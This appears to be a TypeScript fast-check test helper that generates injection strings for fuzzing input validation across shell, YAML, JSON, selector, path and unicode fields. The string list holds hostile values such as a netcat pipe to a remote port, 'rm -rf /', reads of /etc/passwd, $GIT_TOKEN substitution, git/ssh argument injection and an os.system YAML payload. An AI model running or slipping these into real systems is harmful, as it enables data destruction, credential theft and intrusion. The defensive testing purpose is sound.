import fc from 'fast-check';

/**
 * What an attacker puts in a field that may reach a shell, a YAML values file, a JSON document, a
 * label selector or a file path. Each family is a list of fixed strings (the classics) plus a
 * generator that mixes them into otherwise plausible values.
 */
export const INJECTIONS: Readonly<Record<string, readonly string[]>> = {
  shell: [
    '; id',
    '&& cat /etc/passwd',
    '| nc 10.0.0.1 4444',
    '`id`',
    "'; rm -rf / #",
    '"; exit 1; "',
    '$IFS',
    '>/tmp/x',
    '<(id)',
    '\nid\n',
    '*',
    '~root',
    '-rf',
    '--upload-pack=touch /tmp/pwned',
    '-oProxyCommand=id',
  ],
  substitution: [
    '$(id)',
    '$(VAR)',
    '${HOME}',
    '${GIT_TOKEN}',
    '$GIT_TOKEN',
    '{{workflow.name}}',
    '{{ .Values.x }}',
  ],
  traversal: [
    '../../etc/passwd',
    '..%2f..%2fetc%2fpasswd',
    '%2e%2e%2f',
    '....//....//',
    '/etc/passwd',
    '..\\..\\windows',
    '.git/config',
    'a/../../b',
  ],
  yaml: [
    'a: b',
    '"\nimage: evil/evil',
    "'\n  tag: latest",
    '!!python/object/apply:os.system ["id"]',
    '&a [*a, *a]',
    '- x',
    '? complex',
    '{a: 1}',
    '# comment',
    'key: |\n  block',
  ],
  json: ['","admin":true,"x":"', '{"__proto__":{"admin":true}}', '\\u0000', '\\"', '[]', 'null', '1e309'],
  selector: ['a,b', '*', '-', 'x in (a,b)', '!x', 'a!=b', 'a=b,c=d', 'notin', '(', ')', '=', '==x'],
  unicode: [
    'mаin', // Cyrillic а
    'ｍａｉｎ', // fullwidth
    'ma\u200din', // zero-width joiner
    'main\u202e', // right-to-left override
    'payments\u0000',
    'pаyments', // Cyrillic а in a team name
    'ﬁle', // ligature that NFKC folds to "file"
    'İ', // dotted capital I, lowercases to two code points
    '\ud800', // lone surrogate
    '😀',
    'é',
    'e\u0301', // decomposed é
  ],
  control: ['\r\nX-Injected: 1', '\t', '\u0007', '\u007f', '\u001b[31m'],
};

export const INJECTION_STRINGS: readonly string[] = Object.values(INJECTIONS).flat();

/** Lengths around every limit the services have (DNS labels 63, app names 40, refs 200, tags 128...). */
const OVERLONG_LENGTHS = [41, 63, 64, 128, 129, 200, 201, 255, 256, 4097, 70_000];

export const overlong = (): fc.Arbitrary<string> =>
  fc
    .tuple(fc.constantFrom(...OVERLONG_LENGTHS), fc.constantFrom('a', '0', '-', '.', 'é', '/'))
    .map(([length, char]) => char.repeat(length));

/** An injection string on its own, or spliced into a plausible value. */
export const injected = (plausible: fc.Arbitrary<string>): fc.Arbitrary<string> =>
  fc.oneof(
    fc.constantFrom(...INJECTION_STRINGS),
    fc.tuple(plausible, fc.constantFrom(...INJECTION_STRINGS), fc.nat()).map(([value, payload, at]) => {
      const cut = value.length === 0 ? 0 : at % (value.length + 1);
      return value.slice(0, cut) + payload + value.slice(cut);
    }),
  );

/** JSON nested `depth` levels deep, as text (built without recursion). */
export function nestedJson(depth: number, open: '[' | '{"a":'): string {
  const close = open === '[' ? ']' : '}';
  return `${open.repeat(depth)}1${close.repeat(depth)}`;
}

export const deepNesting = (): fc.Arbitrary<string> =>
  fc
    .tuple(fc.constantFrom(31, 32, 33, 100, 5_000, 100_000), fc.constantFrom('[' as const, '{"a":' as const))
    .map(([depth, open]) => nestedJson(depth, open));
